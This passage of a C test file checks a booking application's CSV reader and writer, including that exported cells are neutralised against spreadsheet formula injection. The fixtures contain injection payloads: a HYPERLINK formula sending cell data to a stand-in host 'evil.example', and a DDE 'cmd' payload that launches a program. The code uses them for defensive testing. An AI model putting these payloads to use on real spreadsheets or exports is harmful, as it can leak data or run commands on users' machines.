              TamuBooking *o = row_at (csv, j);

              if (o->type != TAMU_BOOKING_TATAP_MUKA || g_date_compare (&o->date, &b->date) != 0
                  || g_strcmp0 (o->room, b->room) != 0)
                continue;
              g_assert_true (o->start + o->duration <= b->start || b->start + b->duration <= o->start);
            }
        }
      else
        {
          vidcon++;
          g_assert_null (b->room);
          g_assert_true (g_str_has_prefix (b->link, "https://teams.microsoft.com/"));
        }

      if (g_date_get_day (&b->date) == 20)
        on_20th++;
      if (g_date_get_day (&b->date) == 21 && g_str_equal (b->daerah, "Kota Banjar"))
        banjar_21st++;
    }
  g_assert_cmpuint (tatap_muka, ==, 29);
  g_assert_cmpuint (vidcon, ==, 4);
  g_assert_cmpuint (on_20th, ==, 4);
  g_assert_cmpuint (banjar_21st, ==, 2);

  /* Spot checks against the report's tables. */
  g_assert_cmpstr (row_at (csv, 0)->daerah, ==, "Kab. Bandung");
  g_assert_cmpint (row_at (csv, 0)->guests, ==, 9);
  g_assert_cmpstr (row_at (csv, 3)->daerah, ==, "Kab.. Lamongan");
  g_assert_cmpstrv (row_at (csv, 3)->topics, ((const char *[]) { "JF AKPD", NULL }));
  g_assert_cmpstr (row_at (csv, 18)->daerah, ==, "Kab. Jepara");
  g_assert_cmpstrv (row_at (csv, 18)->topics, ((const char *[]) { "DAU", "DAK Non Fisik", NULL }));
  g_assert_cmpstr (row_at (csv, 20)->daerah, ==, "Kab. Tidore Kepulauan");
  g_assert_cmpstr (row_at (csv, 32)->daerah, ==, "Kab. Seruyan");
  /* Line numbers are the file's: the header is line 1. */
  g_assert_cmpuint (g_array_index (csv->line_numbers, guint, 0), ==, 2);
  g_assert_cmpuint (g_array_index (csv->line_numbers, guint, 32), ==, 34);
}

static void
test_booking_demo (void)
{
  GDate today;

  /* Loaded on a first run long after March 2024 … */
  set_date (&today, 2026, 11, 22);
  check_demo (&today);
  /* … and under the clocks the command-line and window tests fix (TAMU_NOW). */
  set_date (&today, 2024, 3, 1);
  check_demo (&today);
  set_date (&today, 2024, 3, 18);
  check_demo (&today);
}

static TamuBooking *
make_booking (TamuBookingType   type,
              int               day,
              int               start,
              const char       *daerah,
              const char * const *topics,
              int               guests,
              TamuBookingStatus status)
{
  TamuBooking *b = tamu_booking_new ();

  b->type = type;
  set_date (&b->date, 2024, 3, day);
  b->start = start;
  b->duration = 60;
  b->daerah = g_strdup (daerah);
  g_strfreev (b->topics);
  b->topics = g_strdupv ((char **) topics);
  b->guests = guests;
  b->status = status;
  return b;
}

static void
assert_same_booking (const TamuBooking *a,
                     const TamuBooking *b)
{
  g_assert_cmpint (a->type, ==, b->type);
  g_assert_cmpint (g_date_compare (&a->date, &b->date), ==, 0);
  g_assert_cmpint (a->start, ==, b->start);
  g_assert_cmpint (a->duration, ==, b->duration);
  g_assert_cmpstr (a->daerah, ==, b->daerah);
  g_assert_cmpstrv (a->topics, b->topics);
  g_assert_cmpint (a->guests, ==, b->guests);
  g_assert_cmpint (a->actual_guests, ==, b->actual_guests);
  g_assert_cmpint (a->status, ==, b->status);
  g_assert_cmpstr (a->room, ==, b->room);
  g_assert_cmpstr (a->instansi, ==, b->instansi);
  g_assert_cmpstr (a->contact, ==, b->contact);
  g_assert_cmpstr (a->phone, ==, b->phone);
  g_assert_cmpstr (a->email, ==, b->email);
  g_assert_cmpstr (a->ticket, ==, b->ticket);
  g_assert_cmpstr (a->pic, ==, b->pic);
  g_assert_cmpstr (a->link, ==, b->link);
  g_assert_cmpstr (a->notes, ==, b->notes);
  g_assert_cmpstr (a->override_reason, ==, b->override_reason);
  g_assert_cmpstr (a->cancel_reason, ==, b->cancel_reason);
}

static GPtrArray *
make_round_trip_bookings (void)
{
  GPtrArray *bookings = g_ptr_array_new_with_free_func ((GDestroyNotify) tamu_booking_unref);
  TamuBooking *b;

  b = make_booking (TAMU_BOOKING_TATAP_MUKA, 20, 9 * 60, "Kab. Jepara",
                    (const char *[]) { "DAU", "DAK Non Fisik", NULL }, 2, TAMU_STATUS_DONE);
  b->duration = 90;
  b->actual_guests = 3;
  b->room = g_strdup ("Ruang Konsultasi 1");
  b->instansi = g_strdup ("BPKAD; Bidang Anggaran");
  b->contact = g_strdup ("Sri \"Yanti\" Rahayu");
  b->phone = g_strdup ("+62 812-3456-7890");
  b->email = g_strdup ("sri@jepara.go.id");
  b->ticket = g_strdup ("RSV-2024-0205");
  b->pic = g_strdup ("Horas");
  b->notes = g_strdup ("Baris pertama,\nbaris kedua\n– “kutipan”");
  b->override_reason = g_strdup ("Kepala badan ikut hadir");
  g_ptr_array_add (bookings, b);

  b = make_booking (TAMU_BOOKING_TATAP_MUKA, 21, TAMU_TIME_UNKNOWN,
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kota Banjar\")",
                    (const char *[]) { "TKD", NULL }, 3, TAMU_STATUS_CANCELLED);
  b->cancel_reason = g_strdup ("-2+3+cmd|' /C calc'!A0");
  b->notes = g_strdup ("@SUM(1+1)");
  g_ptr_array_add (bookings, b);

  b = make_booking (TAMU_BOOKING_VIDCON, 25, 10 * 60, "Kota Tomohon",
                    (const char *[]) { "Pembiayaan", NULL }, 0, TAMU_STATUS_CONFIRMED);
  b->link = g_strdup ("https://teams.microsoft.com/l/meetup-join/19%3ameeting_x%40thread.v2/0?context=%7b%22Tid%22%3a%22x%22%7d");
  b->pic = g_strdup ("'=already quoted");
  g_ptr_array_add (bookings, b);

  b = make_booking (TAMU_BOOKING_TATAP_MUKA, 26, 13 * 60, "Kota Banda Aceh",
                    (const char *[]) { "TKD", NULL }, 2, TAMU_STATUS_NO_SHOW);
  b->actual_guests = 0;
  b->phone = g_strdup ("0651-12345");
  g_ptr_array_add (bookings, b);

  b = make_booking (TAMU_BOOKING_TATAP_MUKA, 28, 14 * 60, " Kab. Seruyan ",
                    (const char *[]) { "TKD", NULL }, 3, TAMU_STATUS_REQUESTED);
  /* Surrounding blanks are trimmed on import: expect the trimmed name. */
  g_ptr_array_add (bookings, b);

  return bookings;
}

static void
round_trip (gboolean with_bom,
            char     separator)
{
  g_autoptr(GPtrArray) bookings = make_round_trip_bookings ();
  g_autoptr(GPtrArray) topics = tamu_topics_new_default ();
  g_autoptr(TamuBookingCsv) csv = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  GDate today;

  text = tamu_booking_csv_write_full (bookings, with_bom, separator);
  g_test_message ("%s", text);
  g_assert_true (g_str_has_prefix (text, TAMU_CSV_BOM) == with_bom);
  g_assert_nonnull (strstr (text, "\r\n"));

  set_date (&today, 2024, 3, 27);
  csv = tamu_booking_csv_parse (text, strlen (text), topics, &today, &error);
  g_assert_no_error (error);
  assert_no_problems (csv);
  g_assert_cmpint (tamu_booking_csv_get_separator (csv), ==, separator);
  g_assert_cmpuint (csv->rows->len, ==, bookings->len);

  g_free (((TamuBooking *) g_ptr_array_index (bookings, 4))->daerah);
  ((TamuBooking *) g_ptr_array_index (bookings, 4))->daerah = g_strdup ("Kab. Seruyan");
  for (guint i = 0; i < bookings->len; i++)
    assert_same_booking (g_ptr_array_index (bookings, i), row_at (csv, i));
}

static void
test_booking_round_trip (void)
{
  round_trip (TRUE, ',');
  round_trip (FALSE, ',');
  round_trip (TRUE, ';');
}

static void
test_booking_write_neutralises (void)
{
  g_autoptr(GPtrArray) bookings = make_round_trip_bookings ();
  g_autoptr(GPtrArray) records = NULL;
  g_autofree char *text = tamu_booking_csv_write (bookings, TRUE);
  const TamuCsvRecord *header;
  const TamuCsvRecord *row;
  int daerah = -1, phone = -1, cancel = -1, notes = -1;

  records = parse_ok (text, NULL);
  g_assert_cmpuint (records->len, ==, 1 + bookings->len);
  header = record_at (records, 0);
  for (int i = 0; header->fields[i] != NULL; i++)
    {
      if (g_str_equal (header->fields[i], "daerah"))
        daerah = i;
      else if (g_str_equal (header->fields[i], "phone"))
        phone = i;
      else if (g_str_equal (header->fields[i], "cancel_reason"))
        cancel = i;
      else if (g_str_equal (header->fields[i], "notes"))
        notes = i;
    }
  g_assert_cmpint (daerah, >=, 0);
  g_assert_cmpint (phone, >=, 0);

  /* What a spreadsheet sees: text, never a formula. */
  row = record_at (records, 2);
  g_assert_cmpstr (row->fields[daerah], ==, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Kota Banjar\")");
  g_assert_cmpstr (row->fields[cancel], ==, "'-2+3+cmd|' /C calc'!A0");
  g_assert_cmpstr (row->fields[notes], ==, "'@SUM(1+1)");
  /* The phone number is readable, every digit and the plus intact. */
  row = record_at (records, 1);
  g_assert_cmpstr (row->fields[phone], ==, "'+62 812-3456-7890");
  row = record_at (records, 4);
  g_assert_cmpstr (row->fields[phone], ==, "0651-12345");

  /* No cell of the file starts a formula. */
  for (guint r = 0; r < records->len; r++)
    {
      const TamuCsvRecord *record = record_at (records, r);

      for (guint i = 0; record->fields[i] != NULL; i++)
        g_assert_false (tamu_csv_needs_neutralising (record->fields[i]));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/reader/quoting", test_reader_quoting);
  g_test_add_func ("/csv/reader/bom", test_reader_bom);
  g_test_add_func ("/csv/reader/semicolon", test_reader_semicolon);
  g_test_add_func ("/csv/reader/line-ends", test_reader_line_ends);
  g_test_add_func ("/csv/reader/embedded-newlines", test_reader_embedded_newlines);
  g_test_add_func ("/csv/reader/bad-utf8", test_reader_bad_utf8);
  g_test_add_func ("/csv/reader/unterminated-quote", test_reader_unterminated_quote);
  g_test_add_func ("/csv/reader/empty", test_reader_empty);
  g_test_add_func ("/csv/writer/quoting", test_writer_quoting);
  g_test_add_func ("/csv/writer/neutralise", test_writer_neutralise);
  g_test_add_func ("/csv/booking/header-aliases", test_booking_header_aliases);
  g_test_add_func ("/csv/booking/english-headers", test_booking_english_headers);
  g_test_add_func ("/csv/booking/missing-columns", test_booking_missing_columns);
  g_test_add_func ("/csv/booking/problems", test_booking_problems);
  g_test_add_func ("/csv/booking/status-defaults", test_booking_status_defaults);
  g_test_add_func ("/csv/booking/values", test_booking_values);
  g_test_add_func ("/csv/booking/bad-dates", test_booking_bad_dates);
  g_test_add_func ("/csv/booking/demo", test_booking_demo);
  g_test_add_func ("/csv/booking/round-trip", test_booking_round_trip);
  g_test_add_func ("/csv/booking/write-neutralises", test_booking_write_neutralises);

  return g_test_run ();
}
